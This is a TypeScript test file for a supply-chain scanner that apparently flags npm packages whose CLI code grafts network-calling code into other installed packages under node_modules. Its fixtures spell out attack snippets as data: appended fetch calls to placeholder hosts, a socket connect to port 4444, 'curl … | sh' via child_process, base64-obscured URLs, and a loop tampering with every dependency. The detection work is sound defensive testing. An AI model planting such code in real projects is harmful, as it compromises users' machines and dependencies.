import { describe, expect, it } from 'vitest';
import { gatherEvidence } from '../../src/analyze/analyze-package.js';
import { ownRules, packageOf } from './in-memory.js';

const grafts = (code: string, files: Record<string, string> = {}): string[] =>
  gatherEvidence(packageOf({ 'cli.js': `const fs = require('fs');\n${code}`, ...files }, { bin: 'cli.js' }), ownRules())
    .packages.flatMap(({ observations }) => observations)
    .filter(({ sink }) => sink === 'package.graft')
    .map(({ api, target }) => `${api.split(' ')[0]} ${target}`);
const changing = (added: string, file = 'express/index.js'): string =>
  `const f = require('path').join(process.cwd(), 'node_modules', '${file}');
  fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + ${JSON.stringify(added)});`;
const append = (added: string, file = 'express/index.js'): string =>
  `fs.appendFileSync('node_modules/${file}', ${JSON.stringify(added)});`;

describe('code put into the files of another package', () => {
  it('is told with the address that it asks', () => {
    expect(grafts(changing("fetch('https://a.example/x')"))).toEqual(['added https://a.example/x']);
    expect(grafts(append("\nconst u = 'https://a.example/y'; require('https').get(u)"))).toEqual([
      'added https://a.example/y',
    ]);
    expect(grafts(changing("require('net').connect(4444, '203.0.113.9')"))).toEqual(['added 203.0.113.9']);
    expect(grafts(changing("require('child_process').exec('curl https://a.example/s | sh')", '@a/b/lib/c.js'))).toEqual(
      ['added https://a.example/s'],
    );
  });

  it('is told where the address is encoded, and where the package is not known', () => {
    const encoded = Buffer.from('https://a.example/z').toString('base64');
    expect(grafts(append(`\nfetch(atob('${encoded}'))`))).toEqual(['added https://a.example/z']);
    const all = `for (const n of fs.readdirSync('node_modules')) fs.appendFileSync('node_modules/' + n + '/index.js', "fetch('https://a.example/all')")`;
    expect(grafts(all)).toEqual(['added https://a.example/all']);
  });

  it('is told as added by how the file is opened', () => {
    const fetched = `"\\nfetch('https://a.example/o')"`;
    for (const code of [
      `fs.createWriteStream('node_modules/a/b.js', { flags: 'a' }).write(${fetched})`,
      `fs.writeSync(fs.openSync('node_modules/a/b.js', 'a+'), ${fetched})`,
      `fs.writeFileSync('node_modules/a/b.js', ${fetched}, { flag: 'a' })`,
      `require('child_process').execSync("echo \\"fetch('https://a.example/o')\\" >> node_modules/a/b.js")`,
    ])
      expect(grafts(code), code).toEqual(['added https://a.example/o']);
  });

  it('is told as written where the file is one of its own as a whole', () => {
    const copied = "fs.copyFileSync(__dirname + '/x.js', 'node_modules/express/index.js');";
    expect(grafts(copied, { 'x.js': "module.exports = 1; fetch('https://a.example/x')" })).toEqual([
      'written https://a.example/x',
    ]);
    expect(grafts(copied, { 'x.js': "const docs = 'https://a.example/docs'; exports.get = (u) => fetch(u)" })).toEqual(
      [],
    );
  });

  it('is not told of links, of this machine, of no request, and of other files', () => {
    expect(grafts(changing('\n// see https://a.example\nfetch(url)'))).toEqual([]);
    expect(grafts(changing("new WebSocket('ws://localhost:9000')"))).toEqual([]);
    expect(grafts(changing("const mirror = 'https://a.example/';"))).toEqual([]);
    expect(grafts(append("fetch('https://a.example')", '.cache/a/index.js'))).toEqual([]);
    expect(grafts(append("fetch('https://a.example')", 'sample/index.js'))).toEqual([]);
    expect(grafts(append("fetch('https://a.example')", 'express/README.md'))).toEqual([]);
  });
});
